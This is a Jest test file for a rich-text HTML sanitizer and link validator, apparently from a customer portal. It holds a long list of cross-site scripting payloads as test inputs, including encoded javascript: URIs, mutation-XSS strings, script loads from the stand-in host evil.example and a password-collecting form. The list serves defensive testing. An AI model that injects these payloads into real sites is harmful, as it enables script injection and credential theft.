/**
 * The rich-text sanitizer against hostile bodies. It runs in the unit project (jsdom) on purpose: every output is
 * parsed by a browser-grade HTML parser and walked, so the test checks what a browser would build from it, not
 * what the string looks like.
 */
// eslint-disable-next-line no-restricted-imports -- a pure function with no server dependency, tested where a DOM parser exists
import { RICH_TEXT_TAGS, richTextFromInput, richTextInputOf, richTextToPlain, safeHref, sanitizeRichText } from '@/lib/server/sanitize';

const ALLOWED_TAGS = new Set<string>(RICH_TEXT_TAGS);
const ALLOWED_ATTRS: Record<string, readonly string[]> = {
  a: ['href', 'target', 'rel'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};

/** Parses `html` as a browser would inside a <div> and returns every element. */
function elementsOf(html: string): Element[] {
  const doc = new DOMParser().parseFromString(`<!doctype html><html><body><div id="root">${html}</div></body></html>`, 'text/html');
  const root = doc.getElementById('root');
  if (!root) throw new Error('the output broke out of its container');
  return Array.from(root.querySelectorAll('*'));
}

/** What must hold for any output: allowed tags and attributes only, safe links, external ones isolated. */
function expectSafe(input: string): string {
  const out = sanitizeRichText(input);
  for (const el of elementsOf(out)) {
    const tag = el.tagName.toLowerCase();
    expect([input, tag, ALLOWED_TAGS.has(tag)]).toEqual([input, tag, true]);
    for (const attr of Array.from(el.attributes)) {
      expect([input, tag, attr.name, (ALLOWED_ATTRS[tag] ?? []).includes(attr.name)]).toEqual([input, tag, attr.name, true]);
    }
    if (tag === 'a' && el.hasAttribute('href')) {
      const href = el.getAttribute('href')!;
      expect([input, href, safeHref(href) !== null]).toEqual([input, href, true]);
      expect(href).toMatch(/^(https?:\/\/[^/\\]|mailto:|\/(?![/\\]))/i);
      if (/^https?:/i.test(href)) {
        expect(el.getAttribute('target')).toBe('_blank');
        expect(el.getAttribute('rel')).toBe('noopener noreferrer');
      }
    }
  }
  // Cleaning clean HTML changes nothing (sanitize on write, then again on read, gives the same HTML).
  expect(sanitizeRichText(out)).toBe(out);
  expect(out).not.toMatch(/<\s*(script|iframe|object|embed|svg|math|form|style|meta|base|link|img|input|button)\b/i);
  expect(out).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/javascript:|vbscript:|data:/i);
  return out;
}

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">import("//evil.example")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<p>unclosed <script>alert(1)',
  '<p onclick="alert(1)">click</p>',
  '<p ONMOUSEOVER=alert(1)>hover</p>',
  '<b onfocus="alert(1)" tabindex=0 autofocus>focus</b>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
  '<a href="javascript&colon;alert(1)">named entity</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="java&#x0A;script:alert(1)">newline</a>',
  '<a href="java\0script:alert(1)">nul</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">percent-encoded</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">data upper</a>',
  '<a href="vbscript:msgbox(1)">vbs</a>',
  '<a href="VBScript:msgbox(1)">vbs mixed</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/\\evil.example/">backslash</a>',
  '<a href="\\\\evil.example/">double backslash</a>',
  '<a href="https:evil.example">no slashes</a>',
  '<a href="file:///etc/passwd">file</a>',
  '<a href="ftp://evil.example/">ftp</a>',
  '<a href="bills">relative</a>',
  '<a href="../admin">parent</a>',
  '<a href="#top">fragment</a>',
  '<a href="https://ok.example/" target="_self" rel="opener" onclick="x()">overrides target and rel</a>',
  '<a href="https://ok.example/" style="position:fixed;top:0">styled link</a>',
  '<p style="background:url(javascript:alert(1))">style url</p>',
  '<p style="width: expression(alert(1))">expression</p>',
  '<div style="behavior: url(x.htc)">behaviour</div>',
  '<p class="MuiButton-root admin-only" id="root">classes and ids</p>',
  '<style>body{display:none}</style><p>after style</p>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example/collect"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="x" data-x="y" aria-label="z">attributes</p>',
  '<table background="javascript:alert(1)"><tr><td colspan="javascript:1" rowspan="2" onmouseover="x">c</td></tr></table>',
  '<h1>big</h1><h2>bigger</h2><h3>ok</h3><h5>small</h5>',
  '<p><b><i><u>unclosed nesting',
  '<a href="https://ok.example/"><a href="javascript:alert(1)">nested links</a></a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<x onclick=alert(1)>custom element</x>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
];

describe('sanitizeRichText', () => {
  it.each(HOSTILE)('neutralises %s', (input) => {
    expectSafe(input);
  });

  it('keeps the allowed formatting as it is', () => {
    const html =
      '<h3>Title</h3><p>Some <strong>bold</strong>, <em>em</em>, <b>b</b>, <i>i</i>, <u>u</u><br />text.</p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote><h4>Sub</h4>' +
      '<table><thead><tr><th colspan="2" scope="col">H</th></tr></thead><tbody><tr><td rowspan="2">a</td><td>b</td></tr></tbody></table>';
    expect(expectSafe(html)).toBe(html);
  });

  it('keeps safe links: portal paths as they are, external ones opening in an isolated new tab', () => {
    expect(expectSafe('<a href="/my-account/manage-my-bills?x=1#y">bills</a>')).toBe('<a href="/my-account/manage-my-bills?x=1#y">bills</a>');
    expect(expectSafe('<a href="mailto:service@example.hk">mail</a>')).toBe('<a href="mailto:service@example.hk">mail</a>');
    expect(expectSafe('<a href="HTTPS://Example.com/a b">web</a>')).toBe(
      '<a href="https://example.com/a%20b" target="_blank" rel="noopener noreferrer">web</a>',
    );
  });

  it('drops dangerous elements with their content, and keeps the text of merely unknown ones', () => {
    expect(expectSafe('<script>alert(1)</script>ok')).toBe('ok');
    expect(expectSafe('<style>p{}</style><svg><text>svg text</text></svg><iframe>frame</iframe>ok')).toBe('ok');
    expect(expectSafe('<div><span>kept text</span></div>')).toBe('kept text');
    expect(expectSafe('<a href="javascript:alert(1)">label</a>')).toBe('<a>label</a>');
  });

  it('closes unclosed tags and escapes stray markup as text', () => {
    expect(expectSafe('<p>one <b>two')).toBe('<p>one <b>two</b></p>');
    expect(expectSafe('5 < 6 & 7 > 3')).toBe('5 &lt; 6 &amp; 7 &gt; 3');
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizeRichText('')).toBe('');
    expect(sanitizeRichText(null)).toBe('');
    expect(sanitizeRichText(undefined)).toBe('');
  });
});

describe('safeHref', () => {
  it.each([
    ['/inbox', { href: '/inbox', isExternal: false }],
    ['https://example.com', { href: 'https://example.com/', isExternal: true }],
    ['http://example.com/x?y=1', { href: 'http://example.com/x?y=1', isExternal: true }],
    ['mailto:a@example.com', { href: 'mailto:a@example.com', isExternal: false }],
  ])('accepts %s', (raw, expected) => {
    expect(safeHref(raw)).toEqual(expected);
  });

  it.each(['', ' ', 'javascript:alert(1)', '//evil.example', '/\\evil.example', 'relative/path', '#frag', '?q=1', 'https://', 'http:/x', 'https:evil.example', 'tel:+85212345678', 'java\tscript:x', `/${'a'.repeat(2048)}`])(
    'refuses %p',
    (raw) => {
      expect(safeHref(raw)).toBeNull();
    },
  );
});

describe('richTextToPlain', () => {
  it('gives the text with markup removed, entities decoded and white space collapsed', () => {
    expect(richTextToPlain('<p>Fish &amp; chips</p><p>5 &lt; 6 "quoted"</p><script>x</script>')).toBe('Fish & chips 5 < 6 "quoted"');
    // Inline tags leave no gap (no space before the full stop); block boundaries become one space.
    expect(richTextToPlain('<p>Ends on <strong>31 January 2027</strong>.</p><ul><li>one</li><li>two</li></ul>')).toBe('Ends on 31 January 2027. one two');
  });

  it('cuts long text near the limit with an ellipsis, at a word boundary when there is one', () => {
    const words = Array.from({ length: 50 }, (_, i) => `word${i}`).join(' ');
    const cut = richTextToPlain(`<p>${words}</p>`, 40);
    expect(cut.length).toBeLessThanOrEqual(40);
    expect(cut.endsWith('…')).toBe(true);
    expect(words.startsWith(cut.slice(0, -1))).toBe(true);
    expect(words.charAt(cut.length - 1)).toBe(' ');
    const chinese = '中'.repeat(200);
    expect(richTextToPlain(chinese, 140)).toBe(`${'中'.repeat(139)}…`);
  });

  it('never cuts a character outside the BMP in half (𨋢, a CJK extension B character of Hong Kong names)', () => {
    // 138 units, then 𨋢 (two units) across the cut at 139: it goes whole, not its first half.
    const preview = richTextToPlain(`${'中'.repeat(138)}𨋢大廈`, 140);
    expect(preview).toBe(`${'中'.repeat(138)}…`);
    expect(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/.test(preview)).toBe(false);
  });
});

describe('richTextInputOf', () => {
  it.each([
    'One line',
    'Dear customer,\n\nOur hotline closes at 1 pm.\nSee you on 28 Dec & "thanks", it\'s a < b > c',
    '第一段。\n\n第二段，a < b 😀\n第三行',
    '&amp; typed literally &lt;',
  ])('gives back the plain text a body typed without tags was stored from: %j', (typed) => {
    expect(richTextInputOf(richTextFromInput(typed))).toBe(typed);
  });

  it('gives the text as it converts (trimmed, one blank line between paragraphs), storing the same HTML again', () => {
    const typed = '  First \r\n\r\n\r\n  Second\n';
    const input = richTextInputOf(richTextFromInput(typed));
    expect(input).toBe('First\n\nSecond');
    expect(richTextFromInput(input)).toBe(richTextFromInput(typed));
  });

  it.each([
    '<p>It is <strong>ready</strong>.</p>',
    '<p>One</p>\n<p>Two</p>',
    '<ul><li>a</li></ul>',
    // Converted back, this would read as a tag and be stored differently: kept as HTML.
    '<p>x &lt;b&gt;y&lt;/b&gt;</p>',
    '',
  ])('keeps a body written as HTML as its (sanitized) HTML: %j', (html) => {
    expect(richTextInputOf(html)).toBe(sanitizeRichText(html));
  });
});
